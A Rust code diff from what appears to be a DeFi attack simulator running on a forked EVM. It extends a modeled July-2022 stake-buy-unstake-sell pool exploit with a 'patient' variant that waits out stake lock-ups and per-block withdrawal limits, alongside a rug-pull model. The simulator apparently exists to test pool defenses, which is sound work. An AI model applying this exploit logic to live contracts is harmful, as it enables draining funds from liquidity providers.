@@ -4,7 +4,8 @@
 //! - The rug-pulling publisher claims what it can, sells every datatoken it holds and
 //!   withdraws all its pool shares, all within one block.
 //! - The July-2022 attacker repeats stake → buy → unstake → sell within one block while each
-//!   loop profits, with a capital budget; its gain is the best it reached.
+//!   loop profits, with a capital budget; its gain is the best it reached. The patient
+//!   variant waits out lock-ups and per-block withdrawal limits on its fork.
 
 use tsynth_evm::{Address, U256, World};
 
@@ -119,14 +120,49 @@ pub fn rug_pull(
     Ok(h.base.saturating_sub(endowment))
 }
 
-/// The July-2022 loop by `attacker` holding `capital` base units, at most `max_loops` times.
-/// Returns the best net gain over the loop prefixes (it stops as soon as a loop does not pay).
+/// The July-2022 loop by `attacker` holding `capital` base units, at most `max_loops` times,
+/// all in one block. Returns the best net gain over the loop prefixes (it stops as soon as a
+/// loop does not pay).
 pub fn stake_loop(
     world: &mut World,
     c: &Contracts,
     attacker: Address,
     capital: U256,
     max_loops: u32,
+) -> Result<U256, Fatal> {
+    loop_with(world, c, attacker, capital, max_loops, None)
+}
+
+/// The patient July-2022 loop: like [`stake_loop`], but the attacker waits out a lock-up
+/// between its stake and the buy → unstake → sell (the lock only delays it), and unstakes
+/// across blocks when a per-block withdrawal limit refuses (nobody trades on the fork in
+/// between, so the price it inflated stays) — the blind spots of a one-block script
+/// (`shared/reference/attacks.md`). `seconds_per_block` sets the warps.
+pub fn patient_stake_loop(
+    world: &mut World,
+    c: &Contracts,
+    attacker: Address,
+    capital: U256,
+    max_loops: u32,
+    seconds_per_block: u64,
+) -> Result<U256, Fatal> {
+    loop_with(
+        world,
+        c,
+        attacker,
+        capital,
+        max_loops,
+        Some(seconds_per_block),
+    )
+}
+
+fn loop_with(
+    world: &mut World,
+    c: &Contracts,
+    attacker: Address,
+    capital: U256,
+    max_loops: u32,
+    patience: Option<u64>,
 ) -> Result<U256, Fatal> {
     let mut counts = TxCounts::default();
     let mut h = Holdings {
@@ -154,10 +190,18 @@ pub fn stake_loop(
         };
         h.base -= stake_in;
         h.shares += shares;
+        if let Some(spb) = patience {
+            wait_out_lock(world, c, attacker, h.shares, spb)?;
+        }
         let pool_base = view(world, c.pool, &IDataPool::baseBalanceCall {})?;
         let buy_in = h.base.min(share_of(pool_base, MAX_TRADE_SHARE));
         crate::agents::buy(world, c, attacker, &mut h, &mut counts, buy_in)?;
-        unstake_all(world, c, attacker, &mut h)?;
+        match patience {
+            Some(spb) => {
+                crate::probes::exit_all(world, c, attacker, &mut h, spb)?;
+            }
+            None => unstake_all(world, c, attacker, &mut h)?,
+        }
         sell_all(world, c, attacker, &mut h, &mut counts)?;
         let gain = h.base.saturating_sub(capital);
         if gain > best {
@@ -168,4 +212,33 @@ pub fn stake_loop(
         }
     }
     Ok(best)
+}
+
+/// If unstaking `shares` now would be refused by a lock-up, warps `world` past its end.
+fn wait_out_lock(
+    world: &mut World,
+    c: &Contracts,
+    who: Address,
+    shares: U256,
+    seconds_per_block: u64,
+) -> Result<(), Fatal> {
+    tsynth_sim::stats::count_call();
+    let call = IDataPool::unstakeCall { sharesIn: shares };
+    match world.dry_run_sol(who, c.pool, &call) {
+        Err(tsynth_evm::EvmError::Revert(r)) => {
+            if let Some(crate::agents::StakeLocked { until }) =
+                r.decode_custom::<crate::agents::StakeLocked>()
+            {
+                let until: u64 = until.saturating_to();
+                let wait = until.saturating_sub(world.timestamp()) + 1;
+                crate::probes::warp(world, wait, seconds_per_block);
+            }
+            Ok(())
+        }
+        Ok(_) | Err(tsynth_evm::EvmError::Halt { .. }) => Ok(()),
+        Err(source) => Err(Fatal {
+            what: "attacker lock check".into(),
+            source,
+        }),
+    }
 }
